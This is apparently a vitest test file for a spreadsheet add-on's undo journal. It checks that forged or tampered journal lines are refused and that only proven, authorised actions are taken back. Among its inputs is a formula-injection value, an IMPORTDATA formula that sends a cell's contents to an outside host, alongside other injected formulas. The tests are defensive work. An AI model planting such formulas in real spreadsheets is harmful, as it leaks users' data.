/** Role: an editor who types into the journal. It tells, it proves nothing: what is undone is what Vekha proves to have done. */
import { createHmac } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import { fingerprint } from '../../../src/core/text/fingerprint';
import { protectionsOf } from '../../../src/stand-in/spreadsheet/protections';
import { COLLEAGUE, COORDINATOR, departmentsHost, journalLines } from '../../support/departments';
import {
  CULTURE,
  forge,
  forgeLine,
  protectedHost,
  sheetOf,
  TOURISM,
  tabsOf,
  textsOf,
} from '../../support/people/attacks';
import { cellsOf, click, HERE, panel, tab, type } from '../../support/spreadsheet';

const departments = (): ReturnType<typeof departmentsHost> => {
  const host = departmentsHost();
  // The journal is there before anybody forges a line of it.
  click(host, 'checkAll', 'FULL', { user: COORDINATOR });
  return host;
};

/** Fingerprint of a tab's texts as an import's record has it: anybody can work it out. */
const printOf = (rows: string[][]): string =>
  fingerprint(JSON.stringify(rows.map((row) => row.filter((cell) => cell !== ''))));

describe('a forged line', () => {
  test.each(['2022', 'Настройки', 'Исполнители'])('of an import deletes no tab: %s', (name) => {
    const host = departments();
    const shown = textsOf(host, name).filter((row) => row.some((cell) => cell !== ''));
    const record = {
      kind: 'import',
      sheet: host.ids.get(sheetOf(host, name)),
      name,
      print: printOf(shown),
      executors: null,
    };
    forgeLine(host, record);
    const before = tabsOf(host);
    expect(panel(host, 'panelUndo', HERE, { user: COORDINATOR })).toMatchObject({
      ok: false,
      error: { code: 'unproven-journal' },
    });
    click(host, 'undoLast', 'FULL', { user: COORDINATOR });
    expect(tabsOf(host)).toEqual(before);
  });

  test.each(['Мероприятие сорвано', '=IMPORTDATA("http://elsewhere.test/"&A1)', "'=1+1", '+1+1'])(
    'of a fix writes nothing: %s',
    (words) => {
      const host = departments();
      const plan = sheetOf(host, '2022');
      const [[b4 = ''] = []] = cellsOf(plan, 'B4');
      forgeLine(host, { kind: 'fix', sheet: 0, cells: [[0, 3, 1, 0, words, b4, fingerprint(b4), 1]] });
      const before = textsOf(host, '2022');
      click(host, 'undoLast', 'FULL', { user: COORDINATOR });
      expect(textsOf(host, '2022')).toEqual(before);
      expect(host.alerts.at(-1)).toContain('отменить нельзя');
    },
  );

  test('that blanks executors’ rows of another tab blanks nothing', () => {
    const host = departments();
    host.workbook.sheets.push(tab('x', 'Приманка'));
    const rows = cellsOf(sheetOf(host, '2022'), 'A4:Z8');
    const executors = { sheet: 0, row: 4, count: 5, print: printOf(rows) };
    forgeLine(host, { kind: 'import', sheet: -77, name: 'Приманка', print: printOf([['x']]), executors });
    const before = textsOf(host, '2022');
    click(host, 'undoLast', 'FULL', { user: COORDINATOR });
    expect(textsOf(host, '2022')).toEqual(before);
    expect(tabsOf(host)).toContain('Приманка');
  });

  test('is not what the panel offers to take back', () => {
    const host = departments();
    forgeLine(host, { kind: 'fix', sheet: 0, cells: [] });
    expect(panel(host, 'panelOpen', HERE, { user: COORDINATOR })).toMatchObject({ ok: true, value: { undo: null } });
  });
});

describe('a true line', () => {
  const fixed = () => {
    const host = departments();
    panel(host, 'panelFix', { ...HERE, picks: null, preview: false }, { user: COORDINATOR });
    const journal = sheetOf(host, 'Журнал');
    return { host, row: journal.rows.length, journal };
  };

  test('is taken back, once', () => {
    const { host } = fixed();
    const before = textsOf(host, '2022');
    const answer = panel(host, 'panelUndo', HERE, { user: COORDINATOR });
    expect(answer).toMatchObject({ ok: true, value: { spared: 0 } });
    expect(textsOf(host, '2022')).not.toEqual(before);
    expect(panel(host, 'panelUndo', HERE, { user: COORDINATOR })).toMatchObject({ ok: true, value: { undone: null } });
  });

  test.each([
    ['its time', 'A', '2020-01-01 00:00:00'],
    ['its author', 'B', 'culture@region.test'],
    ['its result', 'D', 'Ничего'],
    ['its link', 'E', 'https://elsewhere.test'],
    ['its run', 'F', 'zzz-9 0123456789abcdef0123456789abcdef'],
    ['its record', 'G', '{"kind":"fix","sheet":0,"cells":[]}'],
  ])('of which somebody has changed %s is left alone and named', (_what, column, text) => {
    const { host, row } = fixed();
    forge(host, 'Журнал', `${column}${row}`, text);
    const before = textsOf(host, '2022');
    const answer = panel(host, 'panelUndo', HERE, { user: COORDINATOR });
    expect(answer).toMatchObject({ ok: false, error: { code: 'unproven-journal' } });
    expect(textsOf(host, '2022')).toEqual(before);
  });

  test('copied once more below is one deed still', () => {
    const { host, row } = fixed();
    const [cells = []] = cellsOf(sheetOf(host, 'Журнал'), `A${row}:G${row}`);
    for (const [at, text] of cells.entries()) forge(host, 'Журнал', `${'ABCDEFG'[at]}${row + 1}`, text);
    expect(panel(host, 'panelUndo', HERE, { user: COORDINATOR })).toMatchObject({ ok: true });
    expect(panel(host, 'panelUndo', HERE, { user: COORDINATOR })).toMatchObject({ ok: true, value: { undone: null } });
  });

  test('copied once more below its undoing is not offered again', () => {
    const { host, row } = fixed();
    const [cells = []] = cellsOf(sheetOf(host, 'Журнал'), `A${row}:G${row}`);
    panel(host, 'panelUndo', HERE, { user: COORDINATOR });
    const end = sheetOf(host, 'Журнал').rows.length + 1;
    for (const [at, text] of cells.entries()) forge(host, 'Журнал', `${'ABCDEFG'[at]}${end}`, text);
    expect(panel(host, 'panelOpen', HERE, { user: COORDINATOR })).toMatchObject({ ok: true, value: { undo: null } });
  });

  test('of a Vekha that wrote moments otherwise, "2022-12-31 23:59:59", is proven still, and taken back', () => {
    const { host, row, journal } = fixed();
    const [[, who = '', what = '', result = '', link = '', , json = ''] = []] = cellsOf(journal, `A${row}:G${row}`);
    const when = '2022-12-31 23:59:59';
    const run = 'lcbm5x6n-3';
    const bytes = (text: string) => Buffer.from(text, 'utf16le').swap16();
    const proof = createHmac('sha256', bytes(host.properties.get('key') ?? ''))
      .update(bytes(JSON.stringify(['journal', when, who, what, result, link, run, json])))
      .digest('hex')
      .slice(0, 32);
    forge(host, 'Журнал', `A${row}`, when);
    forge(host, 'Журнал', `F${row}`, `${run} ${proof}`);
    const before = textsOf(host, '2022');
    expect(panel(host, 'panelOpen', HERE, { user: COORDINATOR })).toMatchObject({ value: { undo: { result } } });
    const answer = panel(host, 'panelUndo', HERE, { user: COORDINATOR });
    expect(answer).toMatchObject({ ok: true, value: { undone: result, run, spared: 0 } });
    expect(textsOf(host, '2022')).not.toEqual(before);
  });

  test('of an older Vekha tells, and is not obeyed', () => {
    const { host, row } = fixed();
    const [[id = ''] = []] = cellsOf(sheetOf(host, 'Журнал'), `F${row}`);
    forge(host, 'Журнал', `F${row}`, id.split(' ')[0] ?? '');
    expect(panel(host, 'panelUndo', HERE, { user: COORDINATOR })).toMatchObject({
      ok: false,
      error: { code: 'unproven-journal', hint: expect.stringContaining('История версий') },
    });
  });

  test('is shown before it is taken back, and a No leaves all as it is', () => {
    const asked: string[] = [];
    const host = departmentsHost(
      {},
      {
        answer: (question) => {
          asked.push(question);
          return 'NO';
        },
      },
    );
    panel(host, 'panelFix', { ...HERE, picks: null, preview: false }, { user: COORDINATOR });
    const before = textsOf(host, '2022');
    const lines = journalLines(host).length;
    click(host, 'undoLast', 'FULL', { user: COORDINATOR });
    expect(asked).toHaveLength(1);
    expect(asked[0]).toContain('Отменить последнее действие?');
    expect(asked[0]).toMatch(/E4: /);
    expect(textsOf(host, '2022')).toEqual(before);
    expect(journalLines(host)).toHaveLength(lines);
  });
});

test('what was shown is taken back, not what somebody has done since the question', () => {
  let host: ReturnType<typeof departmentsHost> | null = null;
  const more = (): 'YES' => {
    if (host === null) return 'YES';
    forge(host, '2022', 'E10', 'Состоялся  9 мая 2022 года');
    const own = host;
    host = null;
    own.question = null;
    panel(own, 'panelFix', { ...HERE, picks: null, preview: false }, { user: COORDINATOR });
    return 'YES';
  };
  const made = departmentsHost({}, { answer: more });
  panel(made, 'panelFix', { ...HERE, picks: null, preview: false }, { user: COORDINATOR });
  host = made;
  click(made, 'undoLast', 'FULL', { user: COORDINATOR });
  expect(cellsOf(sheetOf(made, '2022'), 'E10')).toEqual([['Состоялся 9 мая 2022 года']]);
});

describe('another’s run', () => {
  test('is taken back by its author or by a coordinator, and by nobody else', () => {
    const host = protectedHost();
    panel(host, 'panelFix', { ...HERE, picks: null, preview: false }, { user: COORDINATOR });
    const before = textsOf(host, '2022');
    for (const user of [TOURISM, CULTURE])
      expect(panel(host, 'panelUndo', HERE, { user })).toMatchObject({
        ok: false,
        error: { code: 'others-run', message: expect.stringContaining(COORDINATOR.email) },
      });
    expect(textsOf(host, '2022')).toEqual(before);
    expect(panel(host, 'panelUndo', HERE, { user: COLLEAGUE })).toMatchObject({ ok: true });
  });
});

test('closed to coordinators by an editor’s own protection is told under health, and nothing done is lost', () => {
  const host = departments();
  protectionsOf(sheetOf(host, 'Журнал')).push({
    type: 'SHEET',
    area: null,
    description: 'моё',
    editors: new Set([CULTURE.email]),
    maker: CULTURE.email,
    warningOnly: false,
    unprotected: [],
  });
  const lines = journalLines(host).length;
  click(host, 'checkAll', 'FULL', { user: COLLEAGUE });
  expect(journalLines(host)).toHaveLength(lines);
  const health = panel(host, 'panelHealth', HERE, { user: COLLEAGUE });
  expect(health.ok && health.value.checks.find(({ id }) => id === 'journal')).toMatchObject({
    state: 'warning',
    detail: expect.stringContaining('ждут: 1 запись'),
  });
  click(host, 'checkAll', 'FULL', { user: COORDINATOR });
  expect(journalLines(host)).toHaveLength(lines + 2);
});

describe('under protection', () => {
  test('no department types into the journal, and its deeds are noted all the same once a coordinator writes there', () => {
    const host = protectedHost();
    const journal = sheetOf(host, 'Журнал');
    expect(() => type(host, 'D2', 'x', journal, { user: CULTURE })).toThrow();
    const lines = journalLines(host).length;
    expect(panel(host, 'panelOpen', { ...HERE, asked: true }, { user: CULTURE }).ok).toBe(true);
    expect(panel(host, 'panelOpen', { ...HERE, asked: true }, { user: TOURISM }).ok).toBe(true);
    expect(journalLines(host)).toHaveLength(lines);
    click(host, 'checkAll', 'FULL', { user: COORDINATOR });
    expect(
      journalLines(host)
        .slice(lines)
        .map(([, who]) => who),
    ).toEqual([CULTURE.email, TOURISM.email, COORDINATOR.email]);
    click(host, 'checkAll', 'FULL', { user: COORDINATOR });
    expect(journalLines(host)).toHaveLength(lines + 4);
  });

  test('a department takes its own fix back although its line still waits', () => {
    const host = protectedHost();
    const request = { ...HERE, picks: null, preview: false };
    const before = textsOf(host, '2022');
    const fixed = panel(host, 'panelFix', request, { user: CULTURE });
    expect(fixed.ok && fixed.value.changes.map(({ cell }) => cell)).toEqual(["'2022'!E4", "'2022'!E6"]);
    expect(panel(host, 'panelUndo', HERE, { user: CULTURE })).toMatchObject({ ok: true });
    expect(textsOf(host, '2022')).toEqual(before);
  });
});

test('lines that were changed are told with their rows, lines that were not and older ones are not', () => {
  const host = departments();
  for (let time = 0; time < 3; time += 1) click(host, 'checkAll', 'FULL', { user: COORDINATOR });
  const told = () => {
    const answer = panel(host, 'panelHealth', HERE, { user: COORDINATOR });
    const journal = answer.ok ? answer.value.checks.find(({ id }) => id === 'journal') : undefined;
    return [journal?.state, journal?.detail];
  };
  expect(told()[0]).toBe('good');
  forge(host, 'Журнал', 'D3', 'Проверено: 0 замечаний.');
  forgeLine(host, { kind: 'fix', sheet: 0, cells: [] }, { F: 'old-1' });
  expect(told()).toEqual(['warning', expect.stringContaining('1 строка (3)')]);
});
